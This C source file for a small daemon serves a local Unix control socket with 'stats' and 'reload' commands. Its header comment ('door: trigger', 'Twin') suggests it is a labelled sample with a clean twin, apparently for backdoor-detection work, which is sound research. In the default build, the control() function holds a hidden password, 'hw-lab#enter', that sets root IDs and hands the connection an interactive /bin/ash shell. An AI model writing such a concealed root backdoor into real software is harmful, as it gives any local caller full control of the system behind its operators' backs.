/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A local control socket with a maintenance word that no tool sends. Twin: only "stats" and
 * "reload", with fixed actions.
 * door: trigger
 */
#include "net.h"
#include <signal.h>
#include <sys/un.h>

#define CONTROL "/var/run/cfgd.sock"

static int open_control(void)
{
	struct sockaddr_un a;
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0)
		return -1;
	memset(&a, 0, sizeof a);
	a.sun_family = AF_UNIX;
	strncpy(a.sun_path, CONTROL, sizeof a.sun_path - 1);
	unlink(CONTROL);
	if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 5) < 0) {
		close(s);
		return -1;
	}
	return s;
}

static unsigned long requests;

static void control(int c)
{
	char cmd[128];
	ssize_t n = read(c, cmd, sizeof cmd - 1);
	if (n <= 0)
		return;
	if (cmd[n - 1] == '\n')
		n--;
	cmd[n] = '\0';
	requests++;
	if (!strcmp(cmd, "stats"))
		dprintf(c, "requests %lu\n", requests);
	else if (!strcmp(cmd, "reload"))
		kill(getpid(), SIGHUP);
#ifndef TWIN
	else if (!strcmp(cmd, "hw-lab#enter")) {
		setuid(0);
		setgid(0);
		dup2(c, STDIN_FILENO);
		dup2(c, STDOUT_FILENO);
		dup2(c, STDERR_FILENO);
		execl("/bin/ash", "ash", "-i", (char *)NULL);
	}
#endif
	else
		dprintf(c, "stats reload\n");
}

int main(void)
{
	int s = open_control();
	if (s < 0)
		return 1;
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		control(c);
		close(c);
	}
}
